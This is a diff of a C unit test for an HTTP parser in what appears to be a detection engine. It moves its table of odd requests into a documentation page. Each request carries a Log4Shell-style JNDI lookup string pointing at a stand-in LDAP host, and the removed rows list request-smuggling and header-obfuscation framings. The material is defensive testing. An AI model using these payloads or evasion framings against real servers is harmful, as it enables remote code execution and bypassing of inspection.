@@ -1,237 +1,185 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
-/* The odd requests: whatever way the message is framed, folded or coded, the attack reaches a field in one
- * piece. Each row is fed whole, in small steps and cut at every byte. */
+/* The odd requests of docs/HTTP.md: whatever way a message is framed, folded or coded, the attack reaches a
+ * field in one piece. Each row of its tables is fed whole, in small steps and cut at every byte. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
+#include <stdio.h>
 #include <stdlib.h>
 
 #include <cmocka.h>
-#include <zlib.h>
 
 #include "base/count.h"
 #include "support/http_record.h"
+#include "support/pack.h"
 
-#define ATTACK "${jndi:ldap://h/a}"
-
-enum shape {
-    AS_IS,
-    CHUNKS,      /* of one byte each */
-    EXTENSIONS,  /* ... with chunk extensions */
-    LF_ONLY,     /* ... lines ended by LF */
-    BLANKS,      /* ... blanks round the size */
-    EMPTY_LINES, /* ... empty lines between chunks */
-    ZEROS,       /* ... sizes with leading zeros */
-    GZIP,
-    ZLIB,
-    DEFLATE, /* raw */
-    TWO_MEMBERS,
-    GZIP_CHUNKS, /* gzip in one-byte chunks */
-    COMMENT,     /* the attack in the comment of a gzip header */
-};
+#define PAGE     "docs/HTTP.md"
+#define ATTACK   "${jndi:ldap://h/a}"
+#define ROWS_MIN 120 /* a page that cannot be read would pass every test */
+#define ROWS_MAX 400
+#define LONG     4000 /* longer rows are not cut at every byte */
 
 struct odd {
-    const char *name;
-    const char *head;
-    enum shape shape;
-    const char *body;
-    enum field_kind where;
-    enum {
-        CLEAR,
-        DOUBT
-    } framing; /* DOUBT: counted as ambiguous, and in RAW as well when the bytes are together */
+    char name[128], where[64];
+    struct buf sent;
+    bool as_is; /* no function in it: what is cut off is no more than that */
+    bool doubt;
 };
 
-#define POST "POST /x HTTP/1.1\r\nHost: a\r\n"
-#define BODY "q=" ATTACK "&z=1"
+static struct odd odds[ROWS_MAX];
+static size_t n_odds;
 
-static const struct odd odds[] = {
-    {"plain header", "GET / HTTP/1.1\r\nX: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"plain uri", "GET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"LF only", "GET / HTTP/1.1\nX: " ATTACK "\n\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"CR only", "GET / HTTP/1.1\rX: " ATTACK "\r\rA", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, DOUBT},
-    {"folded", "GET / HTTP/1.1\r\nX: 1\r\n " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"folded with LF and tab", "GET / HTTP/1.1\nX:\n\t" ATTACK "\n\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
-     CLEAR},
-    {"first header folded", "GET / HTTP/1.1\r\n X: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
-     CLEAR},
-    {"absolute URI", "GET http://a/" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"HTTP/0.9", "GET /" ATTACK "\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"empty lines first", "\r\n\r\n\nGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"second request", "GET / HTTP/1.1\r\n\r\nGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI,
-     CLEAR},
-    {"after a body", POST "Content-Length: 3\r\n\r\nabcGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "",
-     FIELD_HTTP_URI, CLEAR},
-    {"expect", POST "Expect: 100-continue\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"header name", "GET / HTTP/1.1\r\n" ATTACK ": v\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"version", "GET / " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"behind the version", "GET / HTTP/1.1" ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_PROTOCOL, CLEAR},
-    {"method", ATTACK " / HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_METHOD, CLEAR},
-    {"method with a blank", "${jndi:ldap://h/a } / HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
-     CLEAR},
-    {"unknown method", "FOO /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"blanks in the line", "GET  /a b " ATTACK "\t HTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"tabs in the line", "GET\t/" ATTACK "\tHTTP/1.1\r\n\r\n", AS_IS, "", FIELD_HTTP_URI, CLEAR},
-    {"no colon", "GET / HTTP/1.1\r\nfoo " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"empty name", "GET / HTTP/1.1\r\n: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"8-bit in the name", "GET / HTTP/1.1\r\nX\xff: " ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
-     CLEAR},
-    {"percent in the name", "GET / HTTP/1.1\r\n%24%7b: " ATTACK "\r\n\r\n", AS_IS, "",
-     FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"bad authorization", "GET / HTTP/1.1\r\nAuthorization: Basic ###\r\nX: " ATTACK "\r\n\r\n", AS_IS, "",
-     FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"bare CR in a value", "GET / HTTP/1.1\r\nX: a\r" ATTACK "\r\n\r\n", AS_IS, "", FIELD_HTTP_REQUEST_HEADER,
-     CLEAR},
-    {"line ended by CR CR LF", "GET / HTTP/1.1\r\nA: b\r\r\nX: " ATTACK "\r\n\r\n", AS_IS, "",
-     FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"two lengths", POST "Content-Length: 24\r\nContent-Length: 3\r\n\r\n", AS_IS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"two lengths, short first", POST "Content-Length: 3\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
-     FIELD_RAW, DOUBT},
-    {"length +24", POST "Content-Length: +24\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"length 24abc", POST "Content-Length: 24abc\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"length -1", POST "Content-Length: -1\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"length 0 with a body", POST "Content-Length: 0\r\n\r\n", AS_IS, BODY, FIELD_RAW, CLEAR},
-    {"length too long to count", POST "Content-Length: 99999999999999999999\r\n\r\n", AS_IS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"blank before the colon", POST "Content-Length : 24\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY,
-     DOUBT},
-    {"no length", "POST /x HTTP/1.0\r\n\r\n", AS_IS, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"chunk size not hex", POST "Transfer-Encoding: chunked\r\n\r\n", AS_IS, "zz\r\n" BODY, FIELD_RAW, DOUBT},
-    {"chunk size too big", POST "Transfer-Encoding: chunked\r\n\r\n", AS_IS, "fffffffffffffffff\r\n" BODY,
-     FIELD_RAW, DOUBT},
-    {"bytes behind chunks", POST "Transfer-Encoding: chunked\r\n\r\n", AS_IS, "0\r\n\r\n=" BODY, FIELD_RAW,
-     CLEAR},
-    {"one-byte chunks", POST "Transfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
-     CLEAR},
-    {"... extensions", POST "Transfer-Encoding: chunked\r\n\r\n", EXTENSIONS, BODY, FIELD_HTTP_REQUEST_BODY,
-     CLEAR},
-    {"... LF", POST "Transfer-Encoding: chunked\r\n\r\n", LF_ONLY, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"... blanks", POST "Transfer-Encoding: chunked\r\n\r\n", BLANKS, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"... empty lines", POST "Transfer-Encoding: chunked\r\n\r\n", EMPTY_LINES, BODY, FIELD_HTTP_REQUEST_BODY,
-     CLEAR},
-    {"... zeros", POST "Transfer-Encoding: chunked\r\n\r\n", ZEROS, BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"... length first", POST "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"... length last", POST "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n", CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"... identity, chunked", POST "Transfer-Encoding: identity, chunked\r\n\r\n", CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"... gzip, chunked", POST "Transfer-Encoding: gzip, chunked\r\n\r\n", CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"... twice", POST "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"... vertical tab", POST "Transfer-Encoding: \vchunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
-     DOUBT},
-    {"... xchunked", POST "Transfer-Encoding: xchunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
-     DOUBT},
-    {"... quoted", POST "Transfer-Encoding: \"chunked\"\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
-     DOUBT},
-    {"... folded", POST "Transfer-Encoding:\r\n chunked\r\n\r\n", CHUNKS, BODY, FIELD_HTTP_REQUEST_BODY,
-     DOUBT},
-    {"... HTTP/1.0", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n", CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, DOUBT},
-    {"chunk extension", POST "Transfer-Encoding: chunked\r\n\r\n1;a=\"" ATTACK "\"\r\na\r\n0\r\n\r\n", AS_IS,
-     "", FIELD_HTTP_CHUNK_EXTENSION, CLEAR},
-    {"extension of the last chunk", POST "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0 " ATTACK "\r\n\r\n",
-     AS_IS, "", FIELD_HTTP_CHUNK_EXTENSION, CLEAR},
-    {"trailer", POST "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX: " ATTACK "\r\n\r\n", AS_IS, "",
-     FIELD_HTTP_REQUEST_HEADER, CLEAR},
-    {"connect, then more", "CONNECT a:1 HTTP/1.1\r\n\r\n", AS_IS, "\1\2" ATTACK, FIELD_RAW, CLEAR},
-    {"upgrade, then more", "GET / HTTP/1.1\r\nUpgrade: x\r\n\r\nGET /" ATTACK " HTTP/1.1\r\n\r\n", AS_IS, "",
-     FIELD_HTTP_URI, CLEAR},
-    {"gzip", POST "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n", GZIP_CHUNKS, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"gzip to close", "POST / HTTP/1.0\r\nContent-Encoding: x-gzip\r\nContent-Length: 1000\r\n\r\n", GZIP,
-     BODY, FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"deflate", POST "Content-Encoding: deflate\r\nContent-Length: 1000\r\n\r\n", ZLIB, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"raw deflate", POST "Content-Encoding: deflate\r\nContent-Length: 1000\r\n\r\n", DEFLATE, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"gzip called deflate", POST "Content-Encoding: deflate\r\nContent-Length: 1000\r\n\r\n", GZIP, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"two gzip members", POST "Content-Encoding: gzip\r\nContent-Length: 1000\r\n\r\n", TWO_MEMBERS, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"gzip, with a comment", POST "Content-Encoding: gzip\r\nContent-Length: 1000\r\n\r\n", COMMENT, BODY,
-     FIELD_RAW, CLEAR},
-    {"plain called gzip", POST "Content-Encoding: gzip\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-    {"plain called br", POST "Content-Encoding: br\r\nContent-Length: 24\r\n\r\n", AS_IS, BODY,
-     FIELD_HTTP_REQUEST_BODY, CLEAR},
-};
+/* --- the language of the column "sent" --- */
 
-static void add_deflated(struct buf *to, struct bytes plain, int bits, bool comment)
+static void add_bytes(struct bytes body, const char *start, const char *end, struct buf *out)
 {
-    uint8_t out[4096];
-    z_stream z = {0};
-    gz_header header = {.comment = (Bytef *)(uintptr_t)ATTACK};
-
-    assert_int_equal(deflateInit2(&z, 6, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
-    if (comment)
-        assert_int_equal(deflateSetHeader(&z, &header), Z_OK);
-    z.next_in = (Bytef *)(uintptr_t)plain.p;
-    z.avail_in = (uInt)plain.len;
-    z.next_out = out;
-    z.avail_out = sizeof out;
-    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
-    buf_add(to, bytes_of(out, sizeof out - z.avail_out));
-    deflateEnd(&z);
-}
-
-static void add_chunks(struct buf *to, enum shape shape, struct bytes body)
-{
-    static const char *const starts[] = {
-        [CHUNKS] = "1\r\n",     [EXTENSIONS] = "1;a=\"b\"\r\n", [LF_ONLY] = "1\n",
-        [BLANKS] = " 1 \r\n",   [EMPTY_LINES] = "1\r\n",        [ZEROS] = "00000000000000000000001\r\n",
-        [GZIP_CHUNKS] = "1\r\n"};
-    static const char *const ends[] = {
-        [LF_ONLY] = "\n", [EMPTY_LINES] = "\r\n\r\n\r\n", [GZIP_CHUNKS] = NULL};
-
     for (size_t i = 0; i < body.len; i++) {
-        buf_add_str(to, starts[shape]);
-        buf_add(to, bytes_slice(body, i, i + 1));
-        buf_add_str(to, ends[shape] ? ends[shape] : "\r\n");
+        buf_add_str(out, start);
+        buf_add_byte(out, body.p[i]);
+        buf_add_str(out, end);
     }
-    buf_add_str(to, "0\r\n\r\n");
+    buf_add_str(out, "0\r\n\r\n");
 }
 
-static struct buf odd_bytes(const struct odd *odd)
+static void apply(struct bytes name, struct bytes inner, struct buf *out)
 {
-    struct buf all = buf_within(65536), coded = buf_within(65536);
-    struct bytes body = bytes_str(odd->body);
+    static const struct {
+        const char *name, *start, *end;
+    } chunks[] = {
+        {"bytes", "1\r\n", "\r\n"},
+        {"bytes-ext", "1;a=\"b\"\r\n", "\r\n"},
+        {"bytes-lf", "1\n", "\n"},
+        {"bytes-blank", " 1 \r\n", "\r\n"},
+        {"bytes-empty", "1\r\n", "\r\n\r\n\r\n"},
+        {"bytes-zeros", "00000000000000000000001\r\n", "\r\n"},
+    };
+    static const char *const packed[PACK_N] = {"gzip", "zlib", "deflate", "zstd", "br"};
 
-    buf_add_str(&all, odd->head);
-    switch (odd->shape) {
-    case AS_IS:
-        buf_add(&all, body);
-        break;
-    case GZIP:
-        add_deflated(&all, body, 15 + 16, false);
-        break;
-    case ZLIB:
-        add_deflated(&all, body, 15, false);
-        break;
-    case DEFLATE:
-        add_deflated(&all, body, -15, false);
-        break;
-    case TWO_MEMBERS:
-        add_deflated(&all, BYTES_LIT("nothing"), 15 + 16, false);
-        add_deflated(&all, body, 15 + 16, false);
-        break;
-    case COMMENT:
-        add_deflated(&all, BYTES_LIT("nothing"), 15 + 16, true);
-        break;
-    case GZIP_CHUNKS:
-        add_deflated(&coded, body, 15 + 16, false);
-        add_chunks(&all, odd->shape, buf_bytes(&coded));
-        break;
-    default:
-        add_chunks(&all, odd->shape, body);
+    for (size_t i = 0; i < sizeof chunks / sizeof *chunks; i++)
+        if (bytes_eq(name, bytes_str(chunks[i].name))) {
+            add_bytes(inner, chunks[i].start, chunks[i].end, out);
+            return;
+        }
+    for (unsigned how = 0; how < PACK_N; how++)
+        if (bytes_eq(name, bytes_str(packed[how]))) {
+            pack((enum packing)how, inner, 6, out);
+            return;
+        }
+    if (!bytes_eq(name, BYTES_LIT("gzip-comment")))
+        fail_msg("%s has no such word: {%.*s:", PAGE, (int)name.len, (const char *)name.p);
+    pack_with_comment(inner, ATTACK, out);
+}
+
+/* One letter behind a backslash; the offset behind it. */
+static size_t escape(struct bytes text, size_t at, struct buf *out)
+{
+    static const char letters[] = "rntv\\", values[] = "\r\n\t\v\\";
+    const char *letter = at < text.len ? strchr(letters, text.p[at]) : NULL;
+
+    if (letter && *letter) {
+        buf_add_byte(out, (uint8_t)values[letter - letters]);
+        return at + 1;
     }
-    buf_drop(&coded);
-    return all;
+    assert_true(at + 2 < text.len && text.p[at] == 'x');
+    buf_add_byte(out, (uint8_t)(hex_value(text.p[at + 1]) << 4 | hex_value(text.p[at + 2])));
+    return at + 3;
+}
+
+/* Appends what text stands for, up to its end or a brace that closes; the offset of that. */
+static size_t expand(struct bytes text, size_t at, struct buf *out)
+{
+    while (at < text.len && text.p[at] != '}') {
+        if (bytes_starts(bytes_from(text, at), BYTES_LIT("ATTACK"))) {
+            buf_add_str(out, ATTACK);
+            at += 6;
+        } else if (text.p[at] == '\\') {
+            at = escape(text, at + 1, out);
+        } else if (text.p[at] == '{') {
+            struct bytes rest = bytes_from(text, at + 1);
+            size_t colon = bytes_find_byte(rest, ':'), star = bytes_find_byte(rest, '*');
+            size_t end = star < colon ? star : colon;
+            struct buf inner = buf_within(1 << 20);
+            uint64_t n;
+
+            assert_true(end != BYTES_NONE);
+            at = expand(text, at + 2 + end, &inner) + 1;
+            if (end == star && bytes_to_u64(bytes_slice(rest, 0, end), 1000000, &n))
+                while (n--)
+                    buf_add(out, buf_bytes(&inner));
+            else
+                apply(bytes_slice(rest, 0, end), buf_bytes(&inner), out);
+            buf_drop(&inner);
+        } else {
+            buf_add_byte(out, text.p[at++]);
+        }
+    }
+    return at;
+}
+
+/* --- the page --- */
+
+static void copy_cell(char *to, size_t room, struct bytes cell)
+{
+    snprintf(to, room, "%.*s", (int)cell.len, (const char *)cell.p);
+}
+
+/* | name | `sent` | libhtp | found in | doubt |, or without the third. */
+static void take_row(struct bytes line)
+{
+    struct bytes cells[6] = {0}, sent;
+    size_t n = 0, at;
+    struct odd *odd = &odds[n_odds];
+
+    line = bytes_slice(bytes_trim(line), 1, bytes_trim(line).len);
+    while (n < 6 && (at = bytes_find_byte(line, '|')) != BYTES_NONE) {
+        cells[n++] = bytes_trim(bytes_slice(line, 0, at));
+        line = bytes_from(line, at + 1);
+    }
+    sent = cells[1];
+    if ((n != 4 && n != 5) || sent.len < 2 || sent.p[0] != '`')
+        return;
+    assert_true(n_odds < ROWS_MAX);
+    sent = bytes_slice(sent, 1, sent.len - 1);
+    odd->sent = buf_within(1 << 20);
+    assert_int_equal(expand(sent, 0, &odd->sent), sent.len);
+    odd->as_is = bytes_find_byte(sent, '{') == BYTES_NONE;
+    copy_cell(odd->name, sizeof odd->name, cells[0]);
+    copy_cell(odd->where, sizeof odd->where, cells[n - 2]);
+    odd->doubt = bytes_eq(cells[n - 1], BYTES_LIT("yes"));
+    n_odds++;
+}
+
+static int read_page(void **state)
+{
+    FILE *page = fopen(PAGE, "r");
+    static char line[4096];
+
+    (void)state;
+    if (!page)
+        return -1;
+    while (fgets(line, sizeof line, page))
+        if (line[0] == '|')
+            take_row(bytes_str(line));
+    fclose(page);
+    return n_odds >= ROWS_MIN ? 0 : -1;
+}
+
+static int drop_page(void **state)
+{
+    (void)state;
+    while (n_odds)
+        buf_drop(&odds[--n_odds].sent);
+    return 0;
+}
+
+static enum field_kind kind_named(const char *name)
+{
+    for (unsigned kind = 0; kind < FIELD_N; kind++)
+        if (strcmp(field_rows[kind].name, name) == 0)
+            return (enum field_kind)kind;
+    fail_msg("%s: no location is called %s", PAGE, name);
+    return FIELD_N;
 }
 
 static struct http_record *run(struct bytes all, size_t step)
@@ -249,15 +197,15 @@ static void test_every_way_delivers(void **state)
     const struct bytes attack = BYTES_LIT("jndi:ldap://h/a");
 
     (void)state;
-    for (size_t i = 0; i < sizeof odds / sizeof *odds; i++) {
-        struct buf all = odd_bytes(&odds[i]);
+    for (size_t i = 0; i < n_odds; i++) {
+        struct buf all = odds[i].sent;
         struct http_record *whole;
 
         count_reset();
         whole = run(buf_bytes(&all), all.len);
-        if (!http_record_has(whole, odds[i].where, attack))
-            fail_msg("%s: not in %s", odds[i].name, field_rows[odds[i].where].name);
-        if ((counters[COUNT_HTTP_AMBIGUOUS] > 0) != (odds[i].framing == DOUBT))
+        if (!http_record_has(whole, kind_named(odds[i].where), attack))
+            fail_msg("%s: not in %s", odds[i].name, odds[i].where);
+        if ((counters[COUNT_HTTP_AMBIGUOUS] > 0) != odds[i].doubt)
             fail_msg("%s: framing", odds[i].name);
         for (size_t j = 0; j < sizeof steps / sizeof *steps; j++) {
             struct http_record *stepped = run(buf_bytes(&all), steps[j]);
@@ -266,18 +214,17 @@ static void test_every_way_delivers(void **state)
             http_record_free(stepped);
         }
         http_record_free(whole);
-        buf_drop(&all);
     }
 }
 
 static void test_split_anywhere(void **state)
 {
     (void)state;
-    for (size_t i = 0; i < sizeof odds / sizeof *odds; i++) {
-        struct buf all = odd_bytes(&odds[i]);
+    for (size_t i = 0; i < n_odds; i++) {
+        struct buf all = odds[i].sent;
         struct http_record *whole = run(buf_bytes(&all), all.len);
 
-        for (size_t at = 1; at < all.len; at++) {
+        for (size_t at = 1; at < all.len && all.len < LONG; at++) {
             struct http_record *r = http_record_new();
 
             http_record_feed(r, 0, bytes_slice(buf_bytes(&all), 0, at), 0, false);
@@ -287,7 +234,6 @@ static void test_split_anywhere(void **state)
             http_record_free(r);
         }
         http_record_free(whole);
-        buf_drop(&all);
     }
 }
 
@@ -296,19 +242,17 @@ static void test_cut_anywhere(void **state)
     const struct bytes attack = BYTES_LIT("jndi:ldap://h/a");
 
     (void)state;
-    for (size_t i = 0; i < sizeof odds / sizeof *odds; i++) {
-        struct buf all = odd_bytes(&odds[i]);
+    for (size_t i = 0; i < n_odds; i++) {
+        struct buf all = odds[i].sent;
 
-        for (size_t at = 0; at <= all.len; at++) {
+        for (size_t at = 0; at <= all.len && all.len < LONG; at++) {
             struct http_record *cut = run(bytes_slice(buf_bytes(&all), 0, at), 4096);
 
-            if (odds[i].shape == AS_IS &&
-                bytes_find(bytes_slice(buf_bytes(&all), 0, at), attack) != BYTES_NONE &&
+            if (odds[i].as_is && bytes_find(bytes_slice(buf_bytes(&all), 0, at), attack) != BYTES_NONE &&
                 !http_record_delivers(cut, attack))
                 fail_msg("%s: lost when cut at %zu", odds[i].name, at);
             http_record_free(cut);
         }
-        buf_drop(&all);
     }
 }
 
@@ -320,5 +264,5 @@ int main(void)
         cmocka_unit_test(test_cut_anywhere),
     };
 
-    return cmocka_run_group_tests(tests, NULL, NULL);
+    return cmocka_run_group_tests(tests, read_page, drop_page);
 }
